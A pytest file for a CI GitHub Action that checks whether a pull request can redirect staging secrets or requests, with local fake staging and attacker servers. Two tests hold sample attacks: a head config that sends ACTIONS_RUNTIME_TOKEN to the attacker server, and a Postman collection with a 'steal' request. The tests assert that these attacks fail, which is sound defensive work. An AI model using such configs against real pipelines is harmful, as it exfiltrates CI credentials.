"""Trust boundaries: a pull request's head decides nothing about where requests and secrets go."""

from __future__ import annotations

from pathlib import Path

from satori_ci.demo import StagingServer
from tests.action.conftest import PR, PullRequest, make_pull_request, staging_config
from tests.servers.github_server import FakeGitHub

SECRET = "staging-secret-4d1f"
RUNTIME = "actions-runtime-9a7c"






def _pull_request(tmp_path: Path, base_config: str, head_config: str, github: FakeGitHub,
                  head_files: dict[str, str] | None = None) -> PullRequest:
    return make_pull_request(tmp_path, github, {".satori.yml": base_config},
                             {".satori.yml": head_config, **(head_files or {})})


def test_a_pull_request_cannot_send_the_staging_secrets_to_its_own_server(
        tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
    staging, attacker = servers
    evil = staging_config(attacker.base_url, "ACTIONS_RUNTIME_TOKEN",
                   "    requests:\n      unsafe: [\"POST /orders\"]\n      values: {isbn: '1'}\n")
    with FakeGitHub(login=None) as github:
        pr = _pull_request(tmp_path, staging_config(staging.base_url, "STAGING_TOKEN"), evil, github)
        run = pr.run(inputs={"runner": "native"},
                     extra_env={"STAGING_TOKEN": SECRET, "ACTIONS_RUNTIME_TOKEN": RUNTIME})
        comments = github.comments_on(PR)
    assert attacker.received == [], [r.target for r in attacker.received]
    assert staging.received and all(r.headers.get("Authorization") == SECRET for r in staging.received)
    assert all(r.method == "GET" for r in staging.received)
    (comment,) = comments
    shown = comment.body.replace("\\", "")  # Markdown escapes of [ ] _
    assert "> [!WARNING]" in comment.body
    assert "This pull request changes where requests and secrets go (specs[].staging.url, " \
           "specs[].staging.headers, specs[].requests.unsafe, specs[].requests.values" in shown
    assert "the change applies after merge" in shown
    assert "::warning::satori-ci: api/openapi.yaml: This pull request changes where requests" in run.stdout
    assert f"::add-mask::{SECRET}" in run.stdout  # the trusted header value is registered with the runner
    logged = "\n".join(line for line in run.stdout.splitlines() if not line.startswith("::add-mask::"))
    for text in (logged, run.stderr, run.summary, comment.body):
        assert SECRET not in text and RUNTIME not in text


def test_a_team_collection_added_by_the_pull_request_is_not_run(
        tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
    staging, attacker = servers
    collection = ('{"info": {"name": "x", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/'
                  'collection.json"}, "item": [{"name": "steal", "request": {"method": "GET", "url": "'
                  + attacker.base_url + '/books"}}]}')
    head = staging_config(staging.base_url, "STAGING_TOKEN", "    requests:\n      collection: postman/c.json\n")
    with FakeGitHub(login=None) as github:
        pr = _pull_request(tmp_path, staging_config(staging.base_url, "STAGING_TOKEN"), head, github,
                           {"postman/c.json": collection})
        run = pr.run(inputs={"runner": "native"}, extra_env={"STAGING_TOKEN": SECRET})
        (comment,) = github.comments_on(PR)
    assert attacker.received == []
    assert "specs[].requests.collection" in comment.body.replace("\\", "")
    assert run.code == 1  # the bookshop's planted violations, found with the base branch's settings


def test_on_push_the_checked_out_config_is_the_trusted_one(
        tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
    staging, _ = servers
    with FakeGitHub(login=None) as github:
        pr = _pull_request(tmp_path, staging_config("http://127.0.0.1:9", "STAGING_TOKEN"),
                           staging_config(staging.base_url, "STAGING_TOKEN"), github)
        run = pr.run(inputs={"runner": "native"}, event="push", extra_env={"STAGING_TOKEN": SECRET})
    assert staging.received, run.stdout  # merged to main: its config is the project's
    assert "changes where requests and secrets go" not in run.stdout


def test_the_base_configs_oracles_dir_decides_where_the_oracle_files_go(
        tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
    staging, _ = servers
    base = staging_config(staging.base_url, "STAGING_TOKEN") + "oracles_dir: reviewed\n"
    head = staging_config(staging.base_url, "STAGING_TOKEN") + "oracles_dir: elsewhere\n"
    with FakeGitHub(login=None) as github:
        pr = _pull_request(tmp_path, base, head, github)
        run = pr.run(inputs={"runner": "native"}, extra_env={"STAGING_TOKEN": SECRET})
        assert run.outputs["oracle-files"] == "reviewed/api.openapi.oracles.yaml", run.stdout
        assert not (pr.repo / "elsewhere").exists() and not (pr.repo / ".satori").exists()
        assert "oracles_dir" in github.comments_on(PR)[0].body.replace("\\", "")  # the head's change is named
        given = pr.run(inputs={"runner": "native", "oracles-dir": "checks"}, extra_env={"STAGING_TOKEN": SECRET})
    assert given.outputs["oracle-files"] == "checks/api.openapi.oracles.yaml"  # the input wins
